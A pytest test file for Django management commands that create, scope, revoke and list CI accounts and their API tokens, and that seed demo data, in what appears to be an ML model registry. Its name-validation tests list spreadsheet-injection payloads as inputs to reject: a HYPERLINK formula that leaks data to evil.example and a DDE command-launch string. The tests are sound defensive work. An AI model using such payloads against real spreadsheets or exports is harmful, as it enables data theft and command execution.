"""Management commands: CI accounts (create, scope, revoke, list) and the demo data."""

from __future__ import annotations

import hashlib
from io import StringIO

import pytest
from django.contrib.auth import authenticate, get_user_model
from django.core.management import CommandError, call_command

from registry import services
from registry.audit.chain import audit_verify
from registry.errors import InvalidInput
from registry.models import (
    KPI,
    ApiToken,
    AuditEvent,
    EvaluationDataset,
    ModelFile,
    ModelVersion,
    Objective,
    RegisteredModel,
    ServiceAccount,
    Team,
)
from reviews.models import ProductionEvent, SignOff
from tests.builders import Candidate, client_for, post_version


def run(*args: str) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


# --- ci_account ----------------------------------------------------------------------------


def test_create_prints_a_model_scoped_token_once(model, other_model):
    out, err = run("ci_account", "create", "ci-build", "--model", model.name)

    secret = out.strip()
    assert out == f"{secret}\n"  # stdout holds the secret alone, for `$(...)` in scripts
    assert secret.startswith("gh_")
    assert "shown once" in err
    assert secret not in err
    token = ApiToken.objects.get(user__username="ci-build")
    assert token.key_sha256 == hashlib.sha256(secret.encode()).hexdigest()
    assert list(token.scope_models.all()) == [model]
    assert not token.scope_teams.exists()
    account = ServiceAccount.objects.get(user__username="ci-build")
    assert not account.user.has_usable_password()
    assert account.revoked_at is None

    client = client_for(secret=secret)
    created = post_version(client, model.name, Candidate())
    assert created.status_code == 201, created.json()
    assert created.json()["submitted_by"] == "ci-build"
    elsewhere = post_version(client, other_model.name, Candidate())
    assert elsewhere.status_code == 404
    assert elsewhere.json()["code"] == "not_found"
    assert list(ModelVersion.objects.values_list("model__name", flat=True)) == ["credit-default"]


def test_create_records_the_account_and_its_token_in_the_audit_log(model):
    out, _ = run("ci_account", "create", "ci-build", "--model", model.name, "--description", "x")

    created = AuditEvent.objects.get(action="ci_account.created")
    issued = AuditEvent.objects.get(action="token.issued", payload__user="ci-build")
    assert created.actor_name == "system"
    assert created.payload == {"name": "ci-build", "models": ["credit-default"], "teams": []}
    assert issued.payload["models"] == ["credit-default"]
    assert issued.payload["prefix"] == out.strip()[:10]
    assert out.strip() not in str(issued.payload)
    assert ServiceAccount.objects.get().description == "x"
    assert audit_verify().ok


def test_a_token_issued_from_the_command_line_is_attributed_to_the_system(model):
    run("ci_account", "create", "ci-build", "--model", model.name)

    issued = AuditEvent.objects.get(action="token.issued", payload__user="ci-build")
    assert issued.actor_name == "system"


def test_a_team_scoped_token_covers_the_teams_models_only(model, other_model, team, admin_user):
    out, _ = run("ci_account", "create", "ci-team", "--team", team.slug)
    client = client_for(secret=out.strip())

    assert post_version(client, model.name, Candidate()).status_code == 201
    assert post_version(client, other_model.name, Candidate()).status_code == 404
    names = [m["name"] for m in client.get("/api/v1/models/").json()["results"]]
    assert names == ["credit-default"]
    token = ApiToken.objects.get(user__username="ci-team")
    assert list(token.scope_teams.all()) == [team]
    assert AuditEvent.objects.get(action="ci_account.created").payload["teams"] == ["credit-risk"]


def test_models_and_teams_combine(model, other_model, other_team):
    out, _ = run("ci_account", "create", "ci-both", "--model", model.name, "--team", "marketing")
    client = client_for(secret=out.strip())

    names = [m["name"] for m in client.get("/api/v1/models/").json()["results"]]
    assert names == ["churn", "credit-default"]


def test_revoke_refuses_the_token_and_is_audited(model):
    out, _ = run("ci_account", "create", "ci-build", "--model", model.name)
    client = client_for(secret=out.strip())
    assert client.get(f"/api/v1/models/{model.name}/").status_code == 200

    revoked, _ = run("ci_account", "revoke", "ci-build")

    assert "Revoked CI account 'ci-build'" in revoked
    response = post_version(client, model.name, Candidate())
    assert response.status_code == 401
    assert response.json()["code"] == "authentication_failed"
    assert client.get("/api/v1/models/").status_code == 401
    assert not ModelVersion.objects.exists()
    account = ServiceAccount.objects.get(user__username="ci-build")
    assert account.revoked_at is not None
    assert ApiToken.objects.get(user=account.user).revoked_at is not None
    event = AuditEvent.objects.get(action="ci_account.revoked")
    assert event.actor_name == "system"
    assert event.object_id == str(account.pk)
    assert event.payload == {"name": "ci-build", "tokens_revoked": 1}


def test_revoking_twice_revokes_no_more_tokens(model):
    run("ci_account", "create", "ci-build", "--model", model.name)
    run("ci_account", "revoke", "ci-build")
    run("ci_account", "revoke", "ci-build")

    payloads = [e.payload for e in AuditEvent.objects.filter(action="ci_account.revoked")]
    assert payloads == [
        {"name": "ci-build", "tokens_revoked": 1},
        {"name": "ci-build", "tokens_revoked": 0},
    ]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--model", "no-such-model"], "No model named 'no-such-model'"),
        (["--team", "no-such-team"], "No team 'no-such-team'"),
        (["--model", "credit-default", "--model", "nope"], "No model named 'nope'"),
        ([], "at least one model or team"),
    ],
)
def test_create_refuses_unknown_or_missing_scope_and_creates_nothing(model, args, message):
    before = AuditEvent.objects.count()

    with pytest.raises(CommandError, match=message):
        run("ci_account", "create", "ci-build", *args)

    assert not get_user_model().objects.filter(username="ci-build").exists()
    assert not ServiceAccount.objects.exists()
    assert not ApiToken.objects.exists()
    assert AuditEvent.objects.count() == before


@pytest.mark.parametrize("name", ["ci-credit", "eng"])
def test_create_refuses_a_taken_name(ci, engineer, model, name):
    tokens = ApiToken.objects.count()

    with pytest.raises(CommandError, match="already exists"):
        run("ci_account", "create", name, "--model", model.name)

    assert ApiToken.objects.count() == tokens
    assert ServiceAccount.objects.count() == 1
    assert not hasattr(get_user_model().objects.get(username="eng"), "service_account")


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "=1+1",
        "+ci",
        "-ci",
        "@ci",
        "ci build",
        "ci\tbuild",
        "c\u0456-credit",  # a Cyrillic letter posing as a Latin i
        "",
        "c" * 151,
    ],
)
def test_create_refuses_a_name_that_is_not_a_plain_username(model, name):
    before = AuditEvent.objects.count()

    with pytest.raises(CommandError, match=r"^name: Use at most 150 letters, digits and @"):
        run("ci_account", "create", "--model", model.name, "--", name)

    assert not ServiceAccount.objects.exists()
    assert not ApiToken.objects.exists()
    assert not get_user_model().objects.filter(username=name).exists()
    assert AuditEvent.objects.count() == before


def test_the_service_names_the_field_of_a_bad_account_name(model):
    with pytest.raises(InvalidInput) as caught:
        services.ci_account_create(actor=None, name="=cmd|' /C calc'!A0", models=[model])

    assert list(caught.value.errors) == ["name"]
    assert not ServiceAccount.objects.exists()


@pytest.mark.parametrize("name", ["ci.build+2@corp", "_ci-build", "9ci"])
def test_create_accepts_plain_usernames(model, name):
    out, _ = run("ci_account", "create", name, "--model", model.name)

    assert ServiceAccount.objects.get().user.username == name
    assert out.strip().startswith("gh_")


def test_a_team_slug_must_start_like_a_word(db):
    with pytest.raises(InvalidInput) as caught:
        services.team_create(actor=None, slug="-risk", name="Risk")

    assert list(caught.value.errors) == ["slug"]
    assert not Team.objects.exists()
    assert services.team_create(actor=None, slug="_risk", name="Risk").slug == "_risk"


def test_revoke_refuses_unknown_accounts_and_people(engineer):
    with pytest.raises(CommandError, match="No CI account named 'ghost'"):
        run("ci_account", "revoke", "ghost")
    with pytest.raises(CommandError, match="No CI account named 'eng'"):
        run("ci_account", "revoke", "eng")

    assert not AuditEvent.objects.filter(action="ci_account.revoked").exists()


def test_list_shows_accounts_and_their_state(model):
    run("ci_account", "create", "ci-b", "--model", model.name)
    run("ci_account", "create", "ci-a", "--model", model.name)
    run("ci_account", "revoke", "ci-b")

    out, _ = run("ci_account", "list")

    lines = out.splitlines()
    assert lines[0] == "ci-a\tactive"
    assert lines[1].startswith("ci-b\trevoked ")
    assert len(lines) == 2


# --- demo_seed -----------------------------------------------------------------------------


def test_demo_seed_is_refused_outside_demo_mode(db, settings, tmp_path):
    settings.DEMO_MODE = False
    settings.DATA_DIR = tmp_path

    with pytest.raises(CommandError, match="GATEHOUSE_DEMO"):
        run("demo_seed")

    assert not get_user_model().objects.exists()
    assert not RegisteredModel.objects.exists()
    assert not (tmp_path / "demo-users.txt").exists()


DEMO_PEOPLE = ["admin", "auditor", "mlengineer", "outsider", "reviewer", "riskofficer"]


def demo_snapshot() -> dict[str, object]:
    return {
        "users": sorted(get_user_model().objects.values_list("username", flat=True)),
        "teams": sorted(Team.objects.values_list("slug", flat=True)),
        "objectives": Objective.objects.count(),
        "kpis": KPI.objects.count(),
        "versions": sorted(ModelVersion.objects.values_list("version", "content_sha256")),
        "files": sorted(ModelFile.objects.values_list("sha256", flat=True)),
        "data": sorted(EvaluationDataset.objects.values_list("sha256", flat=True)),
        "tokens": ApiToken.objects.count(),
        "events": AuditEvent.objects.count(),
        "statuses": sorted(ModelVersion.objects.values_list("version", "status")),
    }


def test_demo_seed_creates_the_demo_and_is_idempotent(db, settings, tmp_path):
    settings.DEMO_MODE = True
    settings.DATA_DIR = tmp_path
    # A developer's database: PostgreSQL (CI's second pass) is not the embedded setup.
    settings.DEBUG = True

    out, _ = run("demo_seed")

    assert sorted(get_user_model().objects.values_list("username", flat=True)) == sorted(
        [*DEMO_PEOPLE, "ci-credit"]
    )
    passwords = dict(
        line.split("\t", 1) for line in (tmp_path / "demo-users.txt").read_text().splitlines()
    )
    assert (tmp_path / "demo-users.txt").stat().st_mode & 0o777 == 0o600
    for name in DEMO_PEOPLE:
        assert name in out
        assert passwords[name] in out
        assert authenticate(username=name, password=passwords[name]) is not None
    admin = get_user_model().objects.get(username="admin")
    assert admin.is_superuser and admin.is_staff
    assert not get_user_model().objects.get(username="reviewer").is_staff

    model = RegisteredModel.objects.get(name="credit-default")
    assert (model.owner_team.slug, model.risk_tier, model.created_by.username) == (
        "credit-risk",
        "high",
        "mlengineer",
    )
    objectives = list(model.objectives.prefetch_related("kpis"))
    assert [o.title for o in objectives] == ["Reduce manual review load by 20%", "Lend fairly"]
    metric_keys = [k.metric_key for o in objectives for k in o.kpis.all()]
    assert metric_keys == [
        "manual_review_rate",
        "accuracy",
        "fairness.sex.disparate_impact",
        "recall",
    ]

    versions = {v.version: v for v in model.versions.select_related("evaluation_data")}
    assert sorted(versions) == ["0.9.0", "1.0.0", "1.1.0"]
    for version in versions.values():
        assert version.submitted_by.username == "ci-credit"
        data = version.evaluation_data
        content = data.file.read()
        assert data.row_count == content.count(b"\n") - 1 > 1000
        assert data.protected == {
            "sex": {"privileged": ["male"]},
            "age_group": {"privileged": ["25-40", "40-60"]},
        }
        assert hashlib.sha256(content).hexdigest() == data.sha256
        model_file = ModelFile.objects.get(version=version)
        assert model_file.format == "skops"
        assert model_file.sha256 == version.artifact_sha256
        assert hashlib.sha256(model_file.file.read()).hexdigest() == model_file.sha256
    assert "occupation_score" in versions["1.0.0"].evaluation_data.feature_columns
    assert "occupation_score" not in versions["1.1.0"].evaluation_data.feature_columns
    assert "Pipeline" in ModelFile.objects.get(version=versions["1.0.0"]).estimator
    assert "GradientBoosting" in ModelFile.objects.get(version=versions["1.1.0"]).estimator

    ci_secret = passwords["ci-credit (API token)"]
    listing = client_for(secret=ci_secret).get("/api/v1/models/credit-default/versions/")
    assert [v["version"] for v in listing.json()["results"]] == ["1.1.0", "1.0.0", "0.9.0"]
    # The initial release went through review, two e-signatures and promotion.
    assert versions["0.9.0"].status == "production"
    assert set(
        SignOff.objects.filter(version=versions["0.9.0"]).values_list("user__username", flat=True)
    ) == {"reviewer", "riskofficer"}
    assert ProductionEvent.objects.get().version == versions["0.9.0"]
    assert audit_verify().ok

    before = demo_snapshot()
    again, _ = run("demo_seed")

    assert demo_snapshot() == before
    for name in DEMO_PEOPLE:
        assert passwords[name] in again
    assert audit_verify().ok
